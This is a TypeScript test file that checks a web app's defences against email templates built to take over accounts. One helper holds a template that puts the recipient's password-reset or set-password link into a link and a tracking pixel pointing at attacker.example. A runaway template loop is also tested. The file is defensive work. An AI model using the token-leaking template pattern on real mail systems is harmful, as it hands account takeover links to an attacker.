import type { EmailTemplateKind } from '@showdesk/domain/messaging/email-templates';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { askPasswordReset } from '../../../../test/support/account-links.ts';
import { type Caller, callerFor } from '../../../../test/support/caller.ts';
import { testDatabases } from '../../../../test/support/databases.ts';
import { createTestApp, type TestApp } from '../../../../test/support/harness.ts';
import {
  forLink,
  hostileBodies,
  isHarmless,
  secretKinds,
} from '../../../../test/support/hostile-templates.ts';
import { outboxRows } from '../../../../test/support/outbox.ts';
import type { ReceivedMail } from '../../../../test/support/smtp.ts';
import { teamOwnedBy } from '../../../../test/support/team-bodies.ts';
import { emailTemplates } from '../../../db/schema/email-templates.ts';
import { getProfileByEmail } from '../../people/users/queries.ts';
import type { EventRow } from '../../platform/events/queries.ts';

/**
 * The takeover chain a security probe ran: an event admin writes a template that puts the
 * recipient's secret link (reset, set-password, email change) into an address of their own,
 * then has the email sent. Saving such a template is refused; one stored anyway (before these
 * rules) is replaced by the built-in template at send, with the reason in the email log.
 */
describe.each(testDatabases)('hostile email templates on %s', (kind) => {
  let t: TestApp;
  let event: EventRow;
  let asAdmin: Caller;
  let adminEmail: string;

  beforeAll(async () => {
    t = await createTestApp(kind, { mailbox: true });
    event = await t.buildEvent({ name: 'Harbour Expo' });
    const admin = await t.buildUser(event.id, { permissions: 'admin' });
    adminEmail = admin.email;
    asAdmin = await callerFor(t, event, admin);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('refuses every hostile template on save, saying where, for every kind with a secret link', async () => {
    let accepted = 0;
    for (const { kind: emailId, variable } of secretKinds) {
      for (const hostile of hostileBodies) {
        const body = forLink(hostile, variable);
        const response = await asAdmin.put(`/email-templates/${emailId}`, { subject: 'Hi', body });
        if (response.statusCode === 200) {
          // Only the two that print Liquid as text pass: they hold no link, and the button
          // stands on its own.
          expect(isHarmless(body), `${emailId}: ${body}`).toBe(true);
          accepted++;
          continue;
        }
        expect(response.statusCode, `${emailId}: ${body}`).toBe(400);
        const error = response.json().error as { message: string; details: { path: string }[] };
        expect(error.details[0]?.path).toMatch(/^body\.(body|subject)$/);
        expect(error.message).toMatch(/^Body/);
      }
    }
    expect(accepted).toBe(2 * secretKinds.length);
    const stored = await t.deps.db
      .select()
      .from(emailTemplates)
      .where(eq(emailTemplates.eventId, event.id));
    expect(stored.every((row) => isHarmless(row.body))).toBe(true);
  });

  describe('a hostile template stored anyway never carries the link out', () => {
    /** The probe's own template, for a kind's secret link. */
    const probe = (variable: string) =>
      `<a href="https://attacker.example/steal?l={{ ${variable} }}">Open</a><img src="https://attacker.example/px.gif?{{ ${variable} }}">`;
    /** Written straight into the table, as a template saved before these rules would be. */
    async function store(emailId: EmailTemplateKind, body: string) {
      await t.deps.db
        .insert(emailTemplates)
        .values({ eventId: event.id, kind: emailId, subject: 'Hi {{ firstName }}', body })
        .onConflictDoUpdate({
          target: [emailTemplates.eventId, emailTemplates.kind],
          set: { subject: 'Hi {{ firstName }}', body },
        });
    }
    function expectOnlyTheSystemButton(mail: ReceivedMail, path: string) {
      const token = new URL(
        (/https?:\/\/\S+token=[^\s"&<]+/.exec(mail.text) ?? [''])[0],
      ).searchParams.get('token');
      expect(token, 'the recipient still gets their link').toBeTruthy();
      expect(mail.text).toContain(path);
      expect(mail.html.split(token!).length - 1).toBe(2);
      expect(mail.text.split(token!).length - 1).toBe(1);
      expect(mail.html).not.toContain('attacker.example');
      expect(mail.subject).not.toContain(token!);
    }
    async function expectNoteInTheLog(emailId: EmailTemplateKind, to: string) {
      const [row] = await outboxRows(t, { eventId: event.id, template: emailId, toAddress: to });
      const entry = (await asAdmin.get(`/emails/log/${row!.id}`)).json();
      expect(entry.templateNote).toMatch(
        /^Sent with the built-in template: the event's template failed \(line 1, column \d+: "\w+" is a secret link/,
      );
      expect(entry.text).not.toContain('token=');
    }
    /** The email `to` received: the link only in the system's button, the log saying why. */
    async function expectDefused(
      emailId: EmailTemplateKind,
      to: string,
      linkPath: string,
      match: (mail: ReceivedMail) => boolean = () => true,
    ) {
      const mail = await t.mailbox.waitFor(to, (m) => m.text.includes(linkPath) && match(m));
      expectOnlyTheSystemButton(mail, linkPath);
      await expectNoteInTheLog(emailId, to);
    }

    it('password reset (verifyPasswordChange)', async () => {
      await store('verifyPasswordChange', probe('resetUrl'));
      const victim = await t.buildUser(event.id);
      const response = await askPasswordReset(t, event, victim.email);
      expect(response.statusCode).toBe(200);
      await expectDefused('verifyPasswordChange', victim.email, '/auth/reset-password');
    });

    it('email change (verifyEmailChange)', async () => {
      await store('verifyEmailChange', probe('confirmUrl'));
      const member = await t.buildUser(event.id);
      const cookie = await t.login(event, member);
      const newEmail = `moved-${Date.now()}@example.com`;
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/v1/auth/update-email',
        headers: { host: event.hostnames[0]!, cookie },
        payload: { newEmail, currentPassword: member.password },
      });
      expect(response.statusCode, response.body).toBe(200);
      await expectDefused('verifyEmailChange', newEmail, '/auth/update-email');
    });

    it('welcome of a new team owner (welcome) and of a stand share (standShareWelcome)', async () => {
      await store('welcome', probe('setPasswordUrl'));
      await store('standShareWelcome', probe('setPasswordUrl'));
      const owner = `owner-${Date.now()}@example.com`;
      const team = await asAdmin.post('/teams', teamOwnedBy('Anchor Co', owner, ['Nia', 'Owner']));
      expect(team.statusCode, team.body).toBe(201);
      await expectDefused('welcome', owner, '/auth/set-password');

      const shareOwner = `share-${Date.now()}@example.com`;
      const share = await asAdmin.post(
        `/teams/${team.json().id}/stand-shares`,
        teamOwnedBy('Anchor Co (share)', shareOwner, ['Sam', 'Share']),
      );
      expect(share.statusCode, share.body).toBe(201);
      await expectDefused('standShareWelcome', shareOwner, '/auth/set-password');
    });

    it('a new team member (welcomeTeamMember) and the welcome reminder (welcomeChaser)', async () => {
      await store('welcomeTeamMember', probe('setPasswordUrl'));
      await store('welcomeChaser', probe('setPasswordUrl'));
      const owner = await t.buildUser(event.id);
      const teamId = await t.buildTeam(event.id, owner.userId);
      const memberEmail = `member-${Date.now()}@example.com`;
      const added = await asAdmin.post(`/teams/${teamId}/members`, {
        email: memberEmail,
        firstName: 'Mo',
        surname: 'Member',
      });
      expect(added.statusCode, added.body).toBe(201);
      await expectDefused('welcomeTeamMember', memberEmail, '/auth/set-password');

      const profile = await getProfileByEmail(t.deps.db, memberEmail);
      const chaser = await asAdmin.post('/invitations/welcome-chaser', { userIds: [profile!.id] });
      expect(chaser.statusCode, chaser.body).toBe(202);
      await expectDefused('welcomeChaser', memberEmail, '/auth/set-password', (m) =>
        m.subject.startsWith('Reminder'),
      );
    });
  });

  describe('a runaway template', () => {
    const runaway = '<p>Hello</p>\n{% for i in (1..1000000) %}{{ i }}{% endfor %}';

    it('fails its preview with its line, while the server goes on answering', async () => {
      let previewsDone = 0;
      const previews = Array.from({ length: 10 }, () =>
        asAdmin
          .post('/email-templates/taskStatus/preview', { subject: 'Hi', body: runaway })
          .then((response) => {
            previewsDone++;
            return response;
          }),
      );
      // Rendering runs on its own threads: the server's thread answers meanwhile.
      const health = await t.app.inject({ method: 'GET', url: '/api/health' });
      expect(health.statusCode).toBe(200);
      expect(previewsDone, 'health answered before any runaway preview ended').toBe(0);
      for (const response of await Promise.all(previews)) {
        expect(response.statusCode).toBe(400);
        expect(response.json().error.message).toBe(
          'Body, line 2, column 1: The template took longer than 0.5 s to render (a loop too long?)',
        );
      }
    });

    it('fails alone in a batch send: every recipient gets the built-in email, and the log says why', async () => {
      const body = `${runaway}{% button setPasswordUrl %}`;
      await t.deps.db
        .insert(emailTemplates)
        .values({ eventId: event.id, kind: 'welcomeChaser', subject: 'Hi', body })
        .onConflictDoUpdate({
          target: [emailTemplates.eventId, emailTemplates.kind],
          set: { subject: 'Hi', body },
        });
      const people = await Promise.all([1, 2, 3].map(() => t.buildUser(event.id)));
      const chaser = await asAdmin.post('/invitations/welcome-chaser', {
        userIds: people.map((p) => p.userId),
      });
      expect(chaser.statusCode, chaser.body).toBe(202);
      for (const person of people) {
        const mail = await t.mailbox.waitFor(person.email, (m) => m.subject.startsWith('Reminder'));
        expect(mail.text).toContain("you haven't logged in yet");
        const [row] = await outboxRows(t, {
          eventId: event.id,
          template: 'welcomeChaser',
          toAddress: person.email,
        });
        expect(row?.templateNote).toBe(
          "Sent with the built-in template: the event's template failed (line 2, column 1: The template took longer than 0.5 s to render (a loop too long?))",
        );
      }
    });
  });

  it("sends the admin's own test of a template only to the admin, with sample links", async () => {
    const response = await asAdmin.post('/email-templates/verifyPasswordChange/test', {
      subject: 'Reset',
      body: '<p>Reset below</p>{% button resetUrl "Reset" %}',
    });
    expect(response.statusCode, response.body).toBe(200);
    const mail = await t.mailbox.waitFor(adminEmail, (m) => m.subject === '[Test] Reset');
    expect(mail.text).toContain('token=sample-token');
  });
});
